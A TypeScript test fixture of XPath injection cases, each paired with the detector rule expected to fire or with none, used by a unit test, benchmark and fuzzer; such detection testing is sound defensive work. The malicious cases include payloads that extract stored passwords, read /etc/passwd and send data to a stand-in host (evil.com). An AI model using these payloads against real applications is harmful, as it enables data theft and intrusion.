import type { ValueKind } from '../../inspectable.js';

/** A detection case: `expect` is the rule that must fire, or null when nothing may fire. */
export interface XpathCase {
  readonly input: string;
  readonly kind?: ValueKind;
  /** Defaults to `query.x`. */
  readonly location?: string;
  readonly expect: string | null;
}

const FUNCTION = 'xpath/node-function';

/** XPath injection cases shared by the unit test, the benchmark and the fuzz target. */
export const xpathCases: readonly XpathCase[] = [
  { input: "']|//*|//*['", expect: 'xpath/union-path' },
  { input: "x') | //user/password | ('", expect: 'xpath/union-path' },
  { input: "' and count(/*)=1 and '1'='1", expect: FUNCTION },
  { input: "' or count(//user)>0 or 'a'='b", expect: FUNCTION },
  { input: "' and string-length(name(/*[1]))=4 and ''='", expect: FUNCTION },
  { input: "' and substring(name(/*[1]),1,1)='a", expect: FUNCTION },
  { input: "1 or name(/*[1])='users'", expect: FUNCTION },
  { input: 'count(/child::node())', expect: FUNCTION },
  { input: "' and starts-with(//user[1]/password,'a') and '1'='1", expect: FUNCTION },
  { input: "x' or string-length(.)>0 or 'x'='y", expect: FUNCTION },
  { input: "' or contains(name(..),'us') or '", expect: FUNCTION },
  { input: "doc('file:///etc/passwd')", expect: 'xpath/doc-function' },
  { input: "' and doc('http://evil.com/'||name(/*)) and '", expect: 'xpath/doc-function' },
  { input: "unparsed-text('/etc/passwd')", expect: 'xpath/doc-function' },
  { input: "' or child::node() or '", expect: 'xpath/axis-step' },
  { input: '/descendant-or-self::*', expect: 'xpath/axis-step' },
  { input: "')]/parent::*/password[('", expect: 'xpath/axis-step' },
  { input: "admin' or //user[position()=1] or 'a'='b", expect: 'xpath/predicate-path' },
  { input: '//user[1]', expect: 'xpath/predicate-path' },
  { input: '%27%5D%7C%2F%2F*%7C%2F%2F*%5B%27', expect: 'xpath/union-path' },
  // Benign: URLs, paths, PHP and C++ scopes, code, prose, SQL-ish strings.
  { input: 'https://example.com/a/b?c=1', expect: null },
  { input: '//cdn.example.com/lib.js', expect: null },
  { input: 'http://example.com/page[1]', expect: null },
  { input: 'parent::__construct($args);', kind: 'body-value', expect: null },
  { input: 'self::$instance', kind: 'body-value', expect: null },
  { input: 'std::vector<int> v;', kind: 'body-value', expect: null },
  { input: 'count(items) > 0', expect: null },
  { input: '(select count(*) from users)', expect: null },
  { input: 'SELECT name(*) FROM t', expect: null },
  { input: 'name(first, last)', expect: null },
  { input: 'a | b | c', expect: null },
  { input: 'yes|no', expect: null },
  { input: '/usr/local/bin', expect: null },
  { input: 'C:\\Program Files (x86)\\App', expect: null },
  { input: 'array[0] / 2', expect: null },
  { input: 'See section (1) / appendix', expect: null },
  { input: "O'Brien (CEO) | Acme", expect: null },
  { input: 'text/html; charset=utf-8', expect: null },
  { input: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', kind: 'header-value', expect: null },
  { input: 'document.getElementById("x")', kind: 'body-value', expect: null },
  { input: 'The self::node() step selects the context node.', kind: 'body-text', expect: 'xpath/axis-step' },
];
